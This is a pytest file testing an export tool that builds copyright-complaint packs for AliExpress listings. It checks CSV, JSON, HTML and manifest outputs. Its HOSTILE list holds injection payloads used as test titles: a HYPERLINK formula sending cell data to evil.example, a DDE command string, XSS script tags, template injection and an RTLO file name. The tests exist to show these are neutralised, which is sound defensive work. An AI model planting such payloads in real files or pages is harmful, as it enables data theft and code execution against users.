import base64
import csv
import hashlib
import io
import json
import re
from collections.abc import Callable
from dataclasses import replace
from datetime import datetime
from decimal import Decimal
from html.parser import HTMLParser

import pytest

from monitor.complaints.base import Confirmation, Draft, Pack, Target
from monitor.complaints.export import export_pack
from monitor.complaints.policy import Policy
from monitor.complaints.table import COLUMNS
from monitor.errors import NoticeRefused
from monitor.text import csv_text

Confirm = Callable[[Draft], Confirmation]
Export = Callable[[Draft], Pack]
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"free")',
    "+1-1|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r\n=1+1",
    " ＝1+1",
    "'=1+1",
    "</textarea><script>alert(1)</script><img src=x onerror=alert(1)>",
    "{{ 7 * 7 }}{% raw %}",
    "gnp\u202egpj.exe",
    'a,"b";c\nd\r\ne',
    "狐狸徽章 значок лиса دبوس الثعلب",
    "𝕱" * 5_000,
    "x" * 40_000,
    "=" + "x" * 40_000,
]


@pytest.fixture
def export(ipp: Policy, now: datetime, confirm: Confirm, monkeypatch: pytest.MonkeyPatch) -> Export:
    """The whole pack but its PDF, which takes half a second and has tests of its own."""
    monkeypatch.setattr("monitor.complaints.export.to_pdf", lambda notice: b"%PDF of " + notice.reference.encode())
    return lambda draft: export_pack(draft, confirm(draft), ipp, now)


def read_csv(pack: Pack) -> list[dict[str, str]]:
    text = pack.files["listings.csv"].decode("utf-8-sig")
    header, *rows = csv.reader(io.StringIO(text, newline=""))
    return [dict(zip(header, map(csv_text, row), strict=True)) for row in rows]


def test_the_pack_holds_what_a_person_pastes_and_what_a_program_reads(draft: Draft, export: Export) -> None:
    pack = export(draft)
    assert pack.name == "complaint-C-17"
    assert set(pack.files) == {
        "urls-1.txt",
        "fields.txt",
        "fields.html",
        "fields.json",
        "listings.csv",
        "listings.json",
        "listings.xlsx",
        "notice.pdf",
        "notice.txt",
        "policy.json",
        "status.csv",
        "status.xlsx",
        "manifest.json",
    }
    assert pack.files["urls-1.txt"] == (
        b"https://www.aliexpress.com/item/1005000000001.html\nhttps://www.aliexpress.com/item/1005000000002.html\n"
    )


def test_the_field_sheet_has_a_line_for_every_field_of_the_portal(draft: Draft, export: Export, ipp: Policy) -> None:
    lines = export(draft).files["fields.txt"].decode().splitlines()
    assert len(lines) == len(ipp.routes["portal"].fields)  # the heading, and all but the order number
    assert "Complaint reason: Pirated copy" in lines
    assert "Platform (site): AliExpress" in lines
    assert "Complaint type: Product listing" in lines
    assert f"IPR number: {draft.right.claim_number}" in lines
    assert f"Supplement infringement reason(s): {draft.explanation}" in lines
    assert "Complainant: Ada Vale" in lines


def test_the_fields_as_json_tell_who_affirmed_what(draft: Draft, export: Export) -> None:
    facts = json.loads(export(draft).files["fields.json"])
    assert facts["fields"]["Complaint reason"] == "Pirated copy"
    assert facts["confirmation"]["person"] == "Ada Vale"
    assert [one["text"] for one in facts["confirmation"]["statements"]] == [one.text for one in draft.statements]
    assert facts["content_sha256"] == draft.content_sha256
    assert "routes.portal.explanation_max_chars" in facts["unconfirmed"]


def test_a_row_tells_the_listing_the_right_and_the_person(draft: Draft, export: Export) -> None:
    priced = replace(draft.targets[0], price=Decimal("12.90"), currency="USD")
    row = read_csv(export(replace(draft, targets=(priced,))))[0]
    assert tuple(row) == COLUMNS
    told = {name: text for name, text in row.items() if text}
    assert told == {
        "complaint_id": "C-17",
        "submission_id": "C-17-1",
        "batch_no": "1",
        "platform": "alibaba_ipp",
        "site": "aliexpress",
        "right_kind": "copyright_unregistered",
        "right_number": "UC-5F5E00-01J9ZQ4X7M3V8T2K5N6P0R1S4W",
        "right_title": "Fox under the moon",
        "right_holder": "Ada Vale",
        "reason": "cr_pirated_product",
        "reason_platform_code": "Pirated copy",
        "target_kind": "listing",
        "listing_id": "1005000000001",
        "url": "https://www.aliexpress.com/item/1005000000001.html?spm=a2g0o&pdp_npi=4",
        "url_canonical": "https://www.aliexpress.com/item/1005000000001.html",
        "seller_id": "9001",
        "seller_name": "Pin Paradise Store",
        "title": "Fox enamel pin no. 1",
        "price": "12.90",
        "currency": "USD",
        "matched_work_id": "1",
        "match_method": "phash 1",
        "match_distance": "2",
        "infringing_element": "product",
        "explanation": draft.explanation,
        "language": "en",
        "captured_at": "2026-11-21T09:00:00Z",
        "capture_sha256": f"{2:064x}",
        "evidence_files": f"{2:064x} {1:064x}",
        "statements": "good_faith_copyright@1 bona_fide@1 authorised@1",
        "signer": "Ada Vale",
        "approved_by": "Ada Vale",
        "approved_at": "2026-11-21T11:55:00Z",
        "exported_at": "2026-11-21T12:00:00Z",
        "state": "exported",
        "notes": "2 of 64 bits differ",
    }


def test_the_manifest_holds_the_hash_of_every_other_file(draft: Draft, export: Export) -> None:
    pack = export(draft)
    manifest = json.loads(pack.files["manifest.json"])
    others = {name: data for name, data in pack.files.items() if name != "manifest.json"}
    assert manifest["files"] == {
        name: {"size": len(data), "sha256": hashlib.sha256(data).hexdigest()} for name, data in others.items()
    }
    assert pack.sha256 == hashlib.sha256(pack.files["manifest.json"]).hexdigest()


def test_the_same_complaint_gives_the_same_bytes(draft: Draft, export: Export) -> None:
    assert export(draft).files == export(replace(draft)).files


def test_a_complaint_that_may_not_leave_is_refused_naming_every_field(draft: Draft, ipp: Policy, now: datetime) -> None:
    broken = replace(draft, explanation="", right=replace(draft.right, claim_number="N/A"))
    with pytest.raises(NoticeRefused) as refusal:
        export_pack(broken, None, ipp, now)
    for field in ("explanation", "right.claim_number", "confirmation"):
        assert f"\n  {field}: " in str(refusal.value)


def test_300_listings_are_300_lines(draft: Draft, export: Export, target: Callable[..., Target]) -> None:
    pack = export(replace(draft, targets=tuple(target(number) for number in range(300))))
    assert len(pack.files["urls-1.txt"].splitlines()) == 300
    assert len(read_csv(pack)) == 300


# Hostile titles


class Tags(HTMLParser):
    """Collects what a browser would make of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes |= {name for name, _ in attrs}


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_a_hostile_title_passes_whole_and_dead(draft: Draft, export: Export, text: str) -> None:
    hostile = replace(draft.targets[0], title=text, seller_name=text, seller_id=text, listing_id=text)
    pack = export(replace(draft, targets=(hostile,)))
    for row in (read_csv(pack)[0], json.loads(pack.files["listings.json"])[0]):
        assert (row["title"], row["seller_name"], row["seller_id"], row["listing_id"]) == (text,) * 4
    cells = next(
        csv.reader(io.StringIO(pack.files["listings.csv"].decode("utf-8-sig").split("\r\n", 1)[1], newline=""))
    )
    assert not [cell for cell in cells if cell[:1] in set("=+-@\t\r\n＝＋－＠")]
    notes = json.loads(pack.files["manifest.json"])["notes"]
    assert len(notes) == (4 if len(text) > 32_767 else 0)


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_no_text_becomes_code_in_the_field_page(draft: Draft, export: Export, text: str) -> None:
    explanation = " ".join(text[:1_500].split()) or "x"
    plain, hostile = (
        export(replace(draft, explanation=words, work=replace(draft.work, title=words))).files["fields.html"].decode()
        for words in ("x", explanation)
    )
    assert tags_of(hostile) == tags_of(plain)
    assert "http-equiv" in tags_of(hostile)[1]


def tags_of(page: str) -> tuple[list[str], set[str]]:
    tags = Tags()
    tags.feed(page)
    return tags.tags, tags.attributes


def test_the_field_page_runs_its_own_script_alone_and_reaches_nothing(draft: Draft, export: Export) -> None:
    page = export(draft).files["fields.html"].decode()
    script = re.findall(r"<script>(.*?)</script>", page, re.DOTALL)
    assert len(script) == 1
    allowed = base64.b64encode(hashlib.sha256(script[0].encode()).digest()).decode()
    assert f"default-src 'none'; style-src 'unsafe-inline'; script-src 'sha256-{allowed}'" in page
    assert "src=" not in page


def test_what_is_copied_from_the_field_page_is_the_exact_text(draft: Draft, export: Export) -> None:
    page = export(replace(draft, explanation="Zeile 1\nZeile 2 👩‍🎨")).files["fields.html"].decode()
    assert '<textarea readonly tabindex="-1" aria-hidden="true">Zeile 1\nZeile 2 👩‍🎨</textarea>' in page
